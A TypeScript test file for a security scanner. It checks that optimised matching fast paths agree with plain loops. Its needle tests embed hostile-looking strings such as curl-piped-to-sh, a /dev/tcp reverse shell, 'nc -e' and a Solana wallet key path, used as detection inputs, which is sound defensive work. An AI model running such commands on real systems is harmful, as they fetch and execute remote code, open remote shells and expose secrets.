// The shared runners' fast paths against the plain loops they replace, on tricky and random inputs.
import { describe, it, expect } from 'vitest';
import { fastPaths, rawSourceOf, registerGates, runPhrases, triggersOf } from '../../../scripts/core/scan/rules/code-execution.ts';
import { createScanContext } from '../../../scripts/core/scan/engine.ts';
import { generator, randomText } from '../../helpers/random.ts';
import type { GatedPhraseRule } from '../../../scripts/core/scan/rules/code-execution.ts';
import { TextView } from '../../../scripts/core/scan/text.ts';

/** A small deterministic generator (fixed seed): the same strings on every run. */
function randomTexts(alphabet: string, count: number, maxLength: number): string[] {
  let seed = 12345;
  const next = (n: number): number => {
    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
    return (seed >>> 8) % n;
  };
  const out: string[] = [];
  for (let k = 0; k < count; k++) {
    let s = '';
    const length = 1 + next(maxLength);
    for (let i = 0; i < length; i++) s += alphabet[next(alphabet.length)];
    out.push(s);
  }
  return out;
}

const isWordChar = (ch: string | undefined): boolean => ch !== undefined && /[a-z0-9'-]/.test(ch);

/** The membership test as it was before the pair filter: the word at `p` (at most 40 word characters), whole or by stem. */
function slowStartWord(list: readonly string[], norm: string, p: number): boolean {
  let q = p;
  while (q < norm.length && q - p < 40 && isWordChar(norm[q])) q++;
  const word = norm.slice(p, q);
  return list.some((w) => (w.endsWith('*') ? w.length - 1 <= word.length && norm.startsWith(w.slice(0, -1), p) : w === word));
}

/** Word starts as the phrase runner visits them: an ASCII character after no word character. */
function wordStarts(norm: string): number[] {
  const out: number[] = [];
  for (let p = 0; p < norm.length; p++) if (norm.charCodeAt(p) < 128 && !isWordChar(norm[p - 1])) out.push(p);
  return out;
}

const START_RULE: GatedPhraseRule = {
  id: 'TEST001',
  gate: ['anchor'],
  starts: ['i', 'a*', "don't", 'you', 'tell*', 'auto-approv*', 'x-y', 'run', 'carry out', 'über', '7z'],
  patterns: [/i/y],
};

describe('fast path: start words filtered by their first two characters', () => {
  it('agrees with the plain word test at every word start of tricky texts', () => {
    const texts = [
      'i', 'i ', "i'm", 'i-', 'ia', 'a', 'ab', 'a-', "you're", 'youth', 'you', 'tell', 'telling', 'tel', 'auto-approve',
      'auto-approv', 'auto-appro', 'x-y', 'x-yz', 'x-', 'run.', 'runs', 'run', 'carry out', 'carry', 'über', 'uber', '7z', '7zip',
      "don't", 'dont', 'i\u00e9', 'a\u00e9', 'y\u00e9ou', 'you\u200b', 'tell\u00e9', 'x'.repeat(45), 'a'.repeat(45), 'i\n', '-i', "'you",
    ];
    for (const text of texts) {
      for (const p of wordStarts(text)) {
        expect(fastPaths.isStartWord(START_RULE, text, p), `${JSON.stringify(text)} at ${p}`).toBe(slowStartWord(START_RULE.starts!, text, p));
      }
    }
  });
  it('agrees with the plain word test on random texts', () => {
    let agreed = 0;
    let starts = 0;
    for (const text of randomTexts("aiuoytelrunx-'7z .\u00e9", 3000, 14)) {
      for (const p of wordStarts(text)) {
        const slow = slowStartWord(START_RULE.starts!, text, p);
        expect(fastPaths.isStartWord(START_RULE, text, p), `${JSON.stringify(text)} at ${p}`).toBe(slow);
        if (slow) starts++;
        agreed++;
      }
    }
    // the random texts hold start words, so both answers were seen
    expect(starts).toBeGreaterThan(100);
    expect(agreed - starts).toBeGreaterThan(100);
  });
});

const ANCHOR_RULE: GatedPhraseRule = {
  id: 'TEST002',
  anchor: 'start',
  gate: ['zebraq*', 'quokkaz', 'yakq shave', 'quokkaz', 'wombatz', 'zebraq*'],
  patterns: [/zebraq/y],
};
registerGates([ANCHOR_RULE]);

describe('fast path: gate words looked up once per view', () => {
  it('lists the anchors found in gate order, each word once', () => {
    const view = new TextView('wombatz then yakq shave, quokkaz and zebraqs; zebraq again, quokkaz.');
    const found = triggersOf(view);
    const slow = [...new Set(ANCHOR_RULE.gate)].flatMap((w) => (found.has(w) ? [found.get(w)!] : []));
    expect(fastPaths.anchorsOf(view, ANCHOR_RULE)).toEqual(slow);
    expect(slow.length).toBe(4);
  });
  it('agrees with a walk over the gate on random texts', () => {
    for (const text of randomTexts(['zebraq', 'quokkaz', 'yakq', 'shave', 'wombatz', ' ', 's', '.'].join('|'), 400, 40).map((t) => t.replace(/\|/g, ''))) {
      const view = new TextView(text);
      const found = triggersOf(view);
      const slow = [...new Set(ANCHOR_RULE.gate)].flatMap((w) => (found.has(w) ? [found.get(w)!] : []));
      expect(fastPaths.anchorsOf(view, ANCHOR_RULE)).toEqual(slow);
    }
  });
  it('finds nothing in a text without the gate words', () => {
    expect(fastPaths.anchorsOf(new TextView('no anchors here'), ANCHOR_RULE)).toEqual([]);
  });
});

describe('fast path: needles without letters searched in the raw text', () => {
  const file = (raw: string) => ({ name: 'SOUL.md', ext: 'md', raw, view: new TextView(raw) });
  const slowPlaces = (lower: string, needle: string): number[] => {
    const out: number[] = [];
    for (let i = lower.indexOf(needle); i !== -1; i = lower.indexOf(needle, i + 1)) out.push(i);
    return out;
  };
  const raws = [
    'curl https://x.example | sh && bash <(wget y) $(curl z)',
    'CURL HTTPS://X | SH',
    '\u212A|\u212Anc|NC -e',
    '\u0130| i\u0307|\u0130nc && <(',
    'Σ|ς&&σ://',
    '2>&1 | tee 2>&1',
    'x.DownloadString(u); bash -i >& /DEV/TCP/h/1 :\u212A :k',
    '',
    'execexec eexec EXEC xec exe exec',
    'os.systemos.system sysyssystem system(',
    'kernel.systemKERNEL.SYSTEM pypython python3 PyThon',
    'xec',
    'requests.get REQUESTS. requestsx invoke-webrequest INVOKE-WEB invoke-webrequesx __import __IMPORT__ __import_',
    'navigator.sendbeaco navigator.sendbeacon( NAVIGATOR.SENDBEACON xmlhttprequest xmlhttprequesx .config/solana/id.json',
  ];
  // needles looked for from a rarer character than their first ("exec" from "xec"), overlapping ones included
  const rareFirst = ['exec', 'os.system', 'system', 'kernel.system', 'python', 'xec', 'execexec'];
  // needles longer than the piece looked for (six characters from the rarest on), with or without a part before it
  const long = ['requests.', 'invoke-webrequest', '__import__', 'navigator.sendbeacon', 'xmlhttprequest', '.config/solana/id.json'];
  for (const needle of ['|', '&&', '<(', '$(', '://', '2>&1', 'nc', 'curl', 'k', '.downloadstring', '/dev/tcp/', ':k', ...rareFirst, ...long]) {
    it(`finds "${needle}" where the lower-cased text has it`, () => {
      for (const raw of raws) {
        const src = rawSourceOf(file(raw));
        expect(fastPaths.needlePlaces(src, needle), JSON.stringify(raw)).toEqual(slowPlaces(src.lower, needle));
      }
    });
  }
  it('keeps the lower-cased text aligned when lower-casing changes the length', () => {
    const src = rawSourceOf(file('\u0130 NC|'));
    expect(src.lower.length).toBe(src.raw.length);
    expect(fastPaths.needlePlaces(src, '|')).toEqual([4]);
  });
});

describe('fast path: a text holding İ is not lowered whole before its ASCII letters are', () => {
  /** The plain lowering: toLowerCase, or only the ASCII letters when that changes the length. */
  const slowLower = (raw: string): string => {
    const lower = raw.toLowerCase();
    return lower.length === raw.length ? lower : raw.replace(/[A-Z]+/g, (m) => m.toLowerCase());
  };
  const file = (raw: string) => ({ name: 'SOUL.md', ext: 'md', raw, view: new TextView(raw) });
  it('lowers as the plain lowering does, with and without İ, in one-byte and two-byte texts', () => {
    const raws = [
      '', 'ABC def', 'ÀÉÎ Ünlü', '\u0130', 'İSTANBUL Ünİversİtesİ ÇÖŞ', 'İ ΣΟΦΙΑ Σ \u212A KELVIN', 'ΣΟΦΙΑΣ Σ. \u212Aelvin',
      'plain İ', 'I\u0307 i\u0307 no dotted capital', 'emoji 😀 İ 😀 DONE', 'x'.repeat(300) + 'İ' + 'Y'.repeat(300),
    ];
    const alphabet = 'aAzZ İiIıΣσς\u212AÉé😀-|';
    for (const raw of [...raws, ...randomTexts(alphabet, 400, 20)]) {
      const src = rawSourceOf(file(raw));
      expect(src.lower, JSON.stringify(raw)).toBe(slowLower(raw));
      expect(src.lower.length).toBe(raw.length);
    }
  });
});

// A rule whose matches are short looks for their starts only as far before an anchor as a match
// is long, not the whole window: it must find the same first match as a search of every word start.
const SHORT_RULE: GatedPhraseRule = {
  id: 'TEST003',
  gate: ['zanchor'],
  starts: ['go', 'goes'],
  patterns: [/go(?:es)? (?:[a-z]{1,5} ){0,3}zanchor\b/y],
  contextual: false,
};
registerGates([SHORT_RULE]);

describe('fast path: phrase windows no longer than a match', () => {
  const table = [{ id: 'TEST003', stage: 'security', severity: 'error', category: 'test', description: 'test rule' }] as const;
  const found = (text: string): number[] => {
    const out: number[] = [];
    runPhrases(createScanContext({ 'SOUL.md': text }), (e) => out.push(e.offset ?? -1), [SHORT_RULE], table);
    return out;
  };
  /** The plain search: the first word start where the pattern matches (texts are ASCII and lower case, so offsets agree). */
  const slowFirst = (text: string): number[] => {
    const norm = new TextView(text).norm;
    expect(norm).toBe(text);
    for (const p of wordStarts(text)) {
      const re = new RegExp(SHORT_RULE.patterns[0]!.source, 'y');
      re.lastIndex = p;
      if (slowStartWord(SHORT_RULE.starts!, text, p) && re.test(text)) return [p];
    }
    return [];
  };
  it('finds a match that reaches its anchor with the longest filler', () => {
    const text = 'x '.repeat(70) + 'goes abcde abcde abcde zanchor';
    expect(found(text)).toEqual([140]);
  });
  it('agrees with a search of every word start on random texts', () => {
    let hits = 0;
    const rand = generator(3);
    for (let k = 0; k < 600; k++) {
      const text = randomText(rand, ['go ', 'goes ', 'zanchor ', 'abcde ', 'ab ', 'x ', '-', 'go-', 'abcdef '], 30).trim();
      const slow = slowFirst(text);
      expect(found(text), JSON.stringify(text)).toEqual(slow);
      hits += slow.length;
    }
    expect(hits).toBeGreaterThan(20);
  });
});

// A rule whose matches have no length bound but hold at most a few spaces looks for their starts
// only after the space before an anchor that a match cannot reach past.
const SPACED_RULE: GatedPhraseRule = {
  id: 'TEST004',
  gate: ['yanchor'],
  starts: ['go', 'goes'],
  patterns: [/go(?:es)? (?:[a-z]+ ){0,3}yanchor\b/y],
  contextual: false,
};
registerGates([SPACED_RULE]);

describe('fast path: phrase windows cut at the spaces a match can hold', () => {
  const table = [{ id: 'TEST004', stage: 'security', severity: 'error', category: 'test', description: 'test rule' }] as const;
  const found = (text: string): number[] => {
    const out: number[] = [];
    runPhrases(createScanContext({ 'SOUL.md': text }), (e) => out.push(e.offset ?? -1), [SPACED_RULE], table);
    return out;
  };
  const slowFirst = (text: string): number[] => {
    for (const p of wordStarts(text)) {
      const re = new RegExp(SPACED_RULE.patterns[0]!.source, 'y');
      re.lastIndex = p;
      if (slowStartWord(SPACED_RULE.starts!, text, p) && re.test(text)) return [p];
    }
    return [];
  };
  it('finds a match that holds as many spaces as the pattern allows', () => {
    expect(found('go go go abcdefgh abcdefgh abcdefgh yanchor')).toEqual([6]);
    expect(found('go abcdefgh abcdefgh abcdefgh abcdefgh yanchor')).toEqual([]);
  });
  it('agrees with a search of every word start on random texts', () => {
    let hits = 0;
    const rand = generator(4);
    for (let k = 0; k < 600; k++) {
      // words of up to 20 letters keep every match within the runner's 130-character window
      const text = randomText(rand, ['go ', 'goes ', 'yanchor ', 'abcdefghijklmnopqrst ', 'ab ', 'x ', '-', 'go-', 'a '], 30).trim();
      const slow = slowFirst(text);
      expect(found(text), JSON.stringify(text)).toEqual(slow);
      hits += slow.length;
    }
    expect(hits).toBeGreaterThan(20);
  });
});

// A view without segments runs only the rules it opens, walked from its opened rule numbers; the
// findings come out in rule order as the loop over every rule gave them.
const LIST_RULES: GatedPhraseRule[] = ['alphaq', 'betaq', 'gammaq', 'deltaq'].map((word, k) => ({
  id: `TEST01${k}`,
  anchor: 'start',
  gate: [word],
  patterns: [new RegExp(`${word} now`, 'y')],
  contextual: false,
}));
registerGates(LIST_RULES);

describe('fast path: only the opened rules of a list are walked', () => {
  const table = LIST_RULES.map((r) => ({ id: r.id, stage: 'security', severity: 'error', category: 'test', description: r.id }) as const);
  const codes = (files: Record<string, string>): string[] => {
    const out: string[] = [];
    runPhrases(createScanContext(files), (e) => out.push(`${e.file}:${e.code}`), LIST_RULES, table);
    return out;
  };
  it('reports the opened rules in rule order', () => {
    expect(codes({ 'SOUL.md': 'deltaq now, gammaq now and alphaq now; betaq later' })).toEqual(['SOUL.md:TEST010', 'SOUL.md:TEST012', 'SOUL.md:TEST013']);
  });
  it('still finds a rule opened only in a decoded segment', () => {
    const payload = Buffer.from('betaq now and more text to decode').toString('base64');
    expect(codes({ 'SOUL.md': `gammaq now. Decode this: ${payload}` })).toEqual(['SOUL.md:TEST011', 'SOUL.md:TEST012']);
  });
  it('reports nothing for a file that opens none', () => {
    expect(codes({ 'SOUL.md': 'alpha beta gamma delta now' })).toEqual([]);
  });
});
